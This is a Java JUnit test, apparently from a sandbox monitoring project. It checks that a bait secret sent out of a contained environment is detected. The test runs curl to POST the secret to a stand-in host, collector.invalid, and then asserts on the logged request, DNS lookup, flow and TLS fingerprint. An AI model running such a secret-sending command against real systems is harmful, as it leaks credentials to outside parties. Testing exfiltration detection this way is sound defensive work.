package io.mcpsf.boundary;

import static org.assertj.core.api.Assertions.assertThat;

import io.mcpsf.model.Observation.BaitLeft;
import io.mcpsf.model.Observation.DnsAsked;
import io.mcpsf.model.Observation.FlowOpened;
import io.mcpsf.model.Observation.RequestSent;
import io.mcpsf.model.Observation.TlsOpened;
import io.mcpsf.os.Command;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Path;

@EnabledIf("io.mcpsf.boundary.Needs#root")
class BoundaryTest {

    @TempDir static Path folder;
    private static Inside inside;

    @BeforeAll
    static void open() throws IOException, InterruptedException {
        inside = new Inside(folder, BoundarySpec.Options.plain());
    }

    @AfterAll
    static void close() {
        inside.close();
    }

    @Test
    void curlOverTlsIsSeenInClearWithItsBait() throws InterruptedException {
        Command.Result said =
                inside.run(
                        "curl",
                        "-sS",
                        "-m",
                        "20",
                        "-d",
                        "t=" + Inside.SECRET,
                        "https://collector.invalid/up?x=1");

        assertThat(said.stderr()).isEmpty();
        assertThat(said.stdout()).contains("\"ok\":true");
        RequestSent sent =
                inside.await(RequestSent.class, r -> r.url().contains("collector.invalid/up"));
        assertThat(sent.method()).isEqualTo("POST");
        assertThat(sent.url()).isEqualTo("https://collector.invalid/up?x=1");
        assertThat(sent.tls()).isTrue();
        assertThat(sent.body()).isEqualTo("t=" + Inside.SECRET);
        inside.await(
                BaitLeft.class,
                b -> b.where().equals("http") && b.destination().equals("collector.invalid:443"));
        inside.await(DnsAsked.class, d -> d.name().equals("collector.invalid"));
        inside.await(FlowOpened.class, f -> f.name().equals("collector.invalid"));
        assertThat(
                        inside.await(TlsOpened.class, t -> t.name().equals("collector.invalid"))
                                .fingerprint())
                .startsWith("t13d");
    }
}
